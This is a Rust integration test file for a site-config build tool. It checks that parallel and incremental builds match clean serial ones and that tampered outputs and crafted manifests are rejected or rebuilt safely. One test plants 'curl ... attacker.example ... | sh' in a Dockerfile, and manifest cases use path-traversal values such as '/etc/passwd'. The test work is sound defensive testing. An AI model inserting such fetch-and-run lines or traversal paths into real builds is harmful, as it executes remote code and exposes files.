//! Parallel and incremental builds give the same bytes as a clean serial
//! build, and an incremental build renders only what changed.

use std::fs;
use std::path::Path;
use std::process::Output;

use crate::support::{add_clinics, assert_ok, bin, clinic_site, copy_fleet, snapshot};

/// More sites than one render chunk (`build::CHUNK`), so chunking is used.
const EXTRA_SITES: usize = 140;

fn fleet() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().unwrap();
    copy_fleet(tmp.path());
    add_clinics(tmp.path(), 100..100 + EXTRA_SITES);
    tmp
}

/// Build with `threads` rayon threads (1: serial).
fn build(root: &Path, out: &Path, threads: usize, extra: &[&str]) -> Output {
    let mut args = vec!["build", "--format", "json", "--out", out.to_str().unwrap()];
    args.extend_from_slice(extra);
    let output = bin(root)
        .args(&args)
        .env("RAYON_NUM_THREADS", threads.to_string())
        .output()
        .unwrap();
    assert_ok(output, &format!("dify-cfg {args:?}"))
}

/// Names of the sites a build wrote.
fn written(output: &Output) -> Vec<String> {
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    report["sites"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["changed"] == true)
        .map(|s| s["site"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn parallel_and_incremental_builds_match_a_clean_serial_build() {
    let root = fleet();
    let work = tempfile::tempdir().unwrap();
    let (serial, parallel) = (work.path().join("serial"), work.path().join("parallel"));

    build(root.path(), &serial, 1, &["--full"]);
    let first = build(root.path(), &parallel, 4, &[]);
    assert_eq!(
        written(&first).len(),
        11 + EXTRA_SITES + 1,
        "every site and _images"
    );
    assert_eq!(snapshot(&parallel), snapshot(&serial), "parallel != serial");

    // Nothing changed: nothing is rendered or written.
    let noop = build(root.path(), &parallel, 4, &[]);
    assert_eq!(written(&noop), Vec::<String>::new());

    // One site edited: one site rewritten, and the result is what a clean
    // serial build of the new inputs gives.
    let site = root.path().join("sites/clinic-105.toml");
    fs::write(&site, clinic_site(105, "role = \"edited\"\n")).unwrap();
    let one = build(root.path(), &parallel, 4, &[]);
    assert_eq!(written(&one), vec!["clinic-105"]);
    let serial2 = work.path().join("serial2");
    build(root.path(), &serial2, 1, &["--full"]);
    assert_eq!(
        snapshot(&parallel),
        snapshot(&serial2),
        "incremental != clean serial"
    );

    // A profile edit reaches every site that extends it.
    let profile = root.path().join("profiles/multi-branch.toml");
    let text = fs::read_to_string(&profile).unwrap();
    fs::write(
        &profile,
        text.replace("Branch clinic: edge box", "Branch clinic: edge box!"),
    )
    .unwrap();
    let many = build(root.path(), &parallel, 4, &[]);
    assert_eq!(
        written(&many).len(),
        10 + EXTRA_SITES,
        "{:?}",
        written(&many)
    );
    assert!(!written(&many).contains(&"hq".to_string()));

    // A tree that lost a file is not trusted: that site is rebuilt.
    fs::remove_file(parallel.join("clinic-03/compose.yaml")).unwrap();
    let repaired = build(root.path(), &parallel, 4, &[]);
    assert_eq!(written(&repaired), vec!["clinic-03"]);
    let serial3 = work.path().join("serial3");
    build(root.path(), &serial3, 1, &["--full"]);
    assert_eq!(snapshot(&parallel), snapshot(&serial3));
}

/// The example fleet built into `<root>/out`, and a clean build of the
/// same inputs into `<work>/reference` to compare with.
fn built_twice() -> (tempfile::TempDir, tempfile::TempDir) {
    let root = tempfile::tempdir().unwrap();
    copy_fleet(root.path());
    let work = tempfile::tempdir().unwrap();
    build(root.path(), &root.path().join("out"), 2, &[]);
    build(root.path(), &work.path().join("reference"), 2, &["--full"]);
    (root, work)
}

#[test]
fn a_hand_edited_dockerfile_in_out_never_reaches_the_image_plan() {
    let (root, work) = built_twice();
    let reference = work.path().join("reference");
    let out = root.path().join("out");
    let dockerfile = out.join("clinic-01/docker/api.Dockerfile");
    let mut text = fs::read_to_string(&dockerfile).unwrap();
    text.push_str("RUN curl -s https://attacker.example/x | sh\n");
    fs::write(&dockerfile, &text).unwrap();
    build(root.path(), &out, 2, &[]);
    assert_eq!(
        snapshot(&out.join("_images")),
        snapshot(&reference.join("_images")),
        "the edited Dockerfile reached out/_images"
    );
    // `build --check` sees the edit; `--full` repairs it.
    let o = bin(root.path())
        .args(["build", "--check"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("changed: clinic-01/docker/api.Dockerfile")
    );
    build(root.path(), &out, 2, &["--full"]);
    assert_eq!(snapshot(&out), snapshot(&reference));
}

#[test]
fn a_crafted_manifest_never_panics_the_build_or_makes_it_write_outside() {
    let (root, work) = built_twice();
    let reference = work.path().join("reference");
    let out = root.path().join("out");
    let manifest_path = out.join("clinic-01/manifest.json");
    let real_text = fs::read(&manifest_path).unwrap();
    let real: serde_json::Value = serde_json::from_slice(&real_text).unwrap();
    // Each keeps the real input digest, so that a build trusting it would
    // skip the site.
    let edited = |edit: &dyn Fn(&mut serde_json::Value)| {
        let mut m = real.clone();
        edit(&mut m);
        m.to_string()
    };
    let add_output = |path: &'static str| {
        edited(&move |m| {
            let output = serde_json::json!({ "path": path, "sha256": "0".repeat(64) });
            m["outputs"].as_array_mut().unwrap().push(output);
        })
    };
    let dockerfile_sha = |sha256: serde_json::Value| {
        edited(&move |m| {
            for o in m["outputs"].as_array_mut().unwrap() {
                if o["path"] == "docker/api.Dockerfile" {
                    o["sha256"] = sha256.clone();
                }
            }
        })
    };
    // Still dify-cfg's manifest of clinic-01, with entries it would never
    // write: the site is built again.
    let rebuilt = [
        ("an absolute path", add_output("/etc/passwd")),
        ("a path with ..", add_output("../clinic-02/compose.yaml")),
        ("a short sha256", dockerfile_sha("abc".into())),
        (
            "a sha256 that climbs",
            dockerfile_sha("../../../../".into()),
        ),
        ("a non-ASCII sha256", dockerfile_sha("ééééééééééééé".into())),
        ("a number for a sha256", dockerfile_sha(7.into())),
        (
            "a number for the input digest",
            edited(&|m| m["input-digest"] = 1.into()),
        ),
        ("a huge file", format!("{}{real}", " ".repeat(3 << 20))),
    ];
    // Not a manifest dify-cfg wrote for clinic-01: the build refuses to
    // replace the tree, and says so.
    let refused = [
        (
            "outputs that are no list",
            edited(&|m| m["outputs"] = "docker".into()),
        ),
        (
            "another site's",
            edited(&|m| m["site"] = "clinic-02".into()),
        ),
        (
            "another compiler's",
            edited(&|m| m["compiler"]["name"] = "other".into()),
        ),
        ("no JSON", "{".to_string()),
    ];
    let outside = || -> std::collections::BTreeSet<_> {
        let entries = fs::read_dir(root.path()).unwrap();
        entries.map(|e| e.unwrap().file_name()).collect()
    };
    let around = outside();
    let cases = rebuilt.iter().map(|c| (c, true));
    for ((what, text), rebuilds) in cases.chain(refused.iter().map(|c| (c, false))) {
        fs::write(&manifest_path, text).unwrap();
        let before = snapshot(&out);
        let o = bin(root.path())
            .args(["build", "--format", "json"])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&o.stderr);
        let stdout = String::from_utf8_lossy(&o.stdout);
        assert!(!stderr.contains("panicked"), "{what}: {stderr}");
        assert_eq!(outside(), around, "{what}: wrote beside the out directory");
        if rebuilds {
            assert_eq!(o.status.code(), Some(0), "{what}: {stderr}");
            assert_eq!(written(&o), vec!["clinic-01"], "{what}: not rebuilt");
            assert_eq!(snapshot(&out), snapshot(&reference), "{what}");
        } else {
            assert_eq!(o.status.code(), Some(2), "{what}: {stdout}");
            assert!(
                stdout.contains("clinic-01") && stdout.contains("manifest"),
                "{what}: {stdout}"
            );
            assert_eq!(
                snapshot(&out),
                before,
                "{what}: the refused build changed out/"
            );
            fs::write(&manifest_path, &real_text).unwrap();
        }
    }
}
